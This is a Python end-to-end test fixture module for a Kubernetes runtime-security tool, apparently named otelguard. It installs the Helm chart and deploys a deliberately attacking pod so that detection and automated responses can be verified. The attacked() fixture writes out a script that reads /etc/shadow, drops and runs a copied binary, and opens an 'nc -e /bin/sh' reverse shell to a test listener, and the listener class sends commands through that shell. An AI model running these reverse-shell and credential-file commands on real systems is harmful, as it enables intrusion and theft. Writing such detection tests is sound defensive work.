"""The chart installed into the real one-node cluster, and a workload that attacks, shared by the
cluster test modules (one install per session: tests/e2e/conftest.py holds the fixtures).

    backends = start_backends(node, tmp)                  # Loki + Jaeger on the bridge address
    with installed(node, loki, jaeger, tmp) as namespace: # helm upgrade --install ... --wait
        with attacked(node) as attack: ...                # the Deployment whose pod attacks

The release has response enabled (docs/response.md#in-the-chart) with RESPONSE_POLICIES: a
reverse shell's socket redirect proposes blocking its peer (block_peer, carried out by the
node's agent) and isolating the pod (isolate_pod, by the processor), both to be approved, both
reverted at a short ttl. After the reverse shell the attacking pod keeps connecting to the
listener (``PROBE_SECONDS`` apart), so the listener's accept times show when a block holds.
"""

from __future__ import annotations

import json
import secrets
import socket
import threading
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Iterator

import yaml

from tests.support import images
from tests.support.helm import CHART, require_helm, run_helm
from tests.support.node import Node
from tests.support.polling import wait_until
from tests.support.stack import Jaeger, Loki

RELEASE = "otelguard"
TESTBOX = "ghcr.io/otelguard/testbox:0.1.0"
REDIRECT_RULE = "Redirect STDOUT/STDIN to Network Connection in Container"
RESPONSE_TTL_SECONDS = 15
PROBE_SECONDS = 0.3
RESPONSE_POLICIES = f"""\
apiVersion: otelguard.dev/v1alpha1
kind: ResponsePolicy
metadata: {{name: block-reverse-shell-peer}}
spec:
  mode: approve
  match: {{rules: ["{REDIRECT_RULE}"]}}
  actions: [{{action: block_peer}}]
  ttl: {RESPONSE_TTL_SECONDS}s
  continue: true
---
apiVersion: otelguard.dev/v1alpha1
kind: ResponsePolicy
metadata: {{name: isolate-reverse-shell-pod}}
spec:
  mode: approve
  match: {{rules: ["{REDIRECT_RULE}"]}}
  actions: [{{action: isolate_pod}}]
  ttl: {RESPONSE_TTL_SECONDS}s
"""


def label(key: str) -> str:
    """An OTel key as Loki shows it (dots become underscores)."""
    return key.replace(".", "_")


SHELL_HOLD_SECONDS = 10


class ReverseShellListener:
    """The attacker's end of ``nc -e``: sends commands on the first connection and keeps its
    output; accepts (and closes) every later one, keeping the time of each."""

    def __init__(self, host: str) -> None:
        self.sock = socket.create_server((host, 0))
        self.sock.settimeout(600)
        self.port = self.sock.getsockname()[1]
        self.output = b""
        self.first_at = 0.0
        self.accepts: list[float] = []
        self.done = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
            self.first_at = time.time()
            with conn:
                conn.settimeout(30)
                # an attacker's shell stays open a while: so does this one (SHELL_HOLD_SECONDS),
                # which also keeps its stdio socket readable for the agent's dup decoding (a
                # shell gone before the agent reads /proc/PID/fd loses fd.type: a known race,
                # docs/architecture.md#kernel-facts)
                conn.sendall(f"echo pwned-$(id -u)\nsleep {SHELL_HOLD_SECONDS}\nexit\n".encode())
                while chunk := conn.recv(4096):
                    self.output += chunk
        except OSError:
            pass
        finally:
            self.done.set()
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepts.append(time.time())
            conn.close()

    def accepted_between(self, start: float, end: float) -> int:
        return sum(1 for t in list(self.accepts) if start <= t < end)

    def close(self) -> None:
        self.sock.close()


def pods(node: Node, namespace: str, selector: str) -> list[dict[str, Any]]:
    out = node.kubectl("-n", namespace, "get", "pods", "-l", selector, "-o", "json").stdout
    return list(json.loads(out)["items"])


def ready(pod: dict[str, Any]) -> bool:
    conditions = pod.get("status", {}).get("conditions") or []
    return pod["status"].get("phase") == "Running" and any(
        c["type"] == "Ready" and c["status"] == "True" for c in conditions)


def describe(node: Node, namespace: str) -> str:
    """What a failure message needs: pods, events and the otelguard containers' last logs."""
    parts = [node.kubectl("-n", namespace, "get", "pods", "-o", "wide", check=False).stdout,
             node.kubectl("-n", namespace, "get", "events", "--sort-by=.lastTimestamp",
                          check=False).stdout[-4000:]]
    for component in ("agent", "processor", "collector"):
        parts.append(node.kubectl("-n", namespace, "logs", "--tail=30", "-l",
                                  f"app.kubernetes.io/component={component}", check=False).stdout)
    return "\n".join(parts)


@contextmanager
def backends(node: Node, tmp: Path) -> Iterator[tuple[Loki, Jaeger]]:
    """Loki and Jaeger on this host, bound to the bridge address pods reach."""
    loki, jaeger = Loki(tmp / "loki", host=node.host_ip), Jaeger(tmp / "jaeger", host=node.host_ip)
    started = []
    try:
        for comp in (loki, jaeger):
            comp.start()
            started.append(comp)
        yield loki, jaeger
    finally:
        for comp in reversed(started):
            comp.stop()


@contextmanager
def installed(node: Node, loki: Loki, jaeger: Jaeger, tmp: Path) -> Iterator[str]:
    """The chart installed with values for this node (response on); uninstalled afterwards.
    The images `make images` built are imported first, so the node runs exactly those."""
    require_helm()
    for name in images.IMAGES:
        node.import_image(images.archive(name))
    namespace = f"otelguard-{secrets.token_hex(3)}"
    never = {"pullPolicy": "Never"}
    values = {
        "clusterName": "e2e-node",
        "backends": {"loki": {"otlpUrl": loki.otlp_url},
                     "jaeger": {"otlpGrpcEndpoint": jaeger.otlp_grpc, "tls": {"insecure": True}}},
        "agent": {"image": never, "hostKernelHeaders": {"enabled": True},
                  "spool": {"hostPath": str(tmp / "spool")},
                  "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}}},
        "processor": {"image": never, "replicas": 1,
                      "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}}},
        "collector": {"image": never, "replicas": 1,
                      "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}}},
        "response": {"enabled": True, "actions": ["isolate_pod"], "nodeActions": ["block_peer"],
                     "policies": RESPONSE_POLICIES, "config": {"tick_seconds": 0.25},
                     "agentStateHostPath": str(tmp / "response")},
    }
    values_file = tmp / "values.yaml"
    values_file.write_text(yaml.safe_dump(values))
    res = run_helm("upgrade", "--install", RELEASE, str(CHART), "--namespace", namespace,
                   "--create-namespace", "--kubeconfig", str(node.kubeconfig), "--values",
                   str(values_file), "--wait", "--timeout", "600s", timeout=660)
    try:
        assert res.returncode == 0, f"helm install failed:\n{res.stderr}\n{describe(node, namespace)}"
        yield namespace
    finally:
        run_helm("uninstall", RELEASE, "--namespace", namespace, "--kubeconfig",
                 str(node.kubeconfig), "--wait", "--timeout", "180s", timeout=240)
        node.kubectl("delete", "namespace", namespace, "--wait=false", check=False)


@contextmanager
def attacked(node: Node) -> Iterator[dict[str, Any]]:
    """A Deployment whose pod runs the three attacks once the agent watches, then keeps
    connecting to the listener; its facts (and the listener, under "listener")."""
    namespace = f"shop-{secrets.token_hex(3)}"
    listener = ReverseShellListener(node.host_ip)
    # /bin/nc by path: busybox's sh runs a bare applet name as execve("/proc/self/exe"), whose
    # comm is "exe" (Falco sees the same), and the Netcat rule keys on proc.name = nc.
    # /tmp/dropped exits at once ("applet not found"): its upper-layer check must not need it.
    script = ("sleep 2; cat /etc/shadow >/dev/null; "
              "cp /bin/busybox /tmp/dropped && /tmp/dropped true; "
              f"/bin/nc {node.host_ip} {listener.port} -e /bin/sh; "
              f"while true; do /bin/nc -w 1 {node.host_ip} {listener.port} </dev/null "
              f">/dev/null 2>&1; sleep {PROBE_SECONDS}; done")
    deployment = {
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "web", "namespace": namespace},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}},
                 "template": {"metadata": {"labels": {"app": "web"}},
                              "spec": {"terminationGracePeriodSeconds": 1,
                                       "containers": [{"name": "main", "image": TESTBOX,
                                                       "imagePullPolicy": "Never",
                                                       "command": ["/bin/sh", "-c", script]}]}}},
    }
    node.kubectl("create", "namespace", namespace)
    try:
        node.kubectl("apply", "-f", "-", input=json.dumps(deployment))
        assert wait_until(lambda: listener.done.is_set(), 180), (
            f"the reverse shell never called back:\n{describe(node, namespace)}")
        (pod,) = pods(node, namespace, "app=web")
        status = pod["status"]["containerStatuses"][0]
        yield {"namespace": namespace, "pod": pod["metadata"]["name"], "uid": pod["metadata"]["uid"],
               "container_id": status["containerID"].split("://", 1)[1],
               "shell_output": listener.output.decode(errors="replace"), "listener": listener}
    finally:
        listener.close()
        node.kubectl("delete", "namespace", namespace, "--wait=false", check=False)
